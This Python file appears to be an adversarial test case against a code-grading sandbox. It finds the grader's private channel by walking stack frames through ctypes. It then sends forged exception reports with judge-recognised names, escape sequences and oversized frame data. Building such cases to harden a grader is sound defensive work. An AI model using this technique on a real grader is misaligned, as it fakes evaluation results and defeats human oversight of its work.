# attack: raises exceptions with the names that the judge listens to | class: forging | canary: bytes | dud: plain pytest has no wire
import ctypes
import sys

import msgspec

from grader.sandbox.wire.messages import Loaded
from grader.sandbox.wire.packing import Packing


def answer(make):
    """Answer every later request with `make(channel, request)`."""
    # Use the C API: the attributes of frames lead to nothing.
    frames = ctypes.pythonapi
    frames.PyFrame_GetBack.restype = frames.PyFrame_GetLocals.restype = ctypes.py_object
    call = sys._getframe()
    while call.f_code.co_name != "serve":
        call = frames.PyFrame_GetBack(ctypes.py_object(call))
    channel = frames.PyFrame_GetLocals(ctypes.py_object(call))["channel"]
    channel.send(Loaded(), Packing(), None)
    while True:
        request, unpacking = channel.receive_request()
        make(channel, request)



def raw(channel, structure, blob=b""):
    structure = msgspec.msgpack.encode(structure)
    channel._socket.sendall(channel.sealed(structure, blob))


def extension(code, value):
    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))


kinds = iter(["Skipped", "NotYet", "Exit", "CheckFailed", "SystemExit", "GeneratorExit", "StopIteration"] * 99)


def make(channel, request):
    name = next(kinds)
    reply = {"type_name": name, "ancestry": [name, "BaseException", "SyntaxError", "OSError"], "text": "\x00\x1b[2J" * 9}
    raw(channel, {"type": "raised", **reply, "frames": [[-1, target.trophy + "x" * 9000], [2**60, ""]], "in_probe": True})


answer(make)
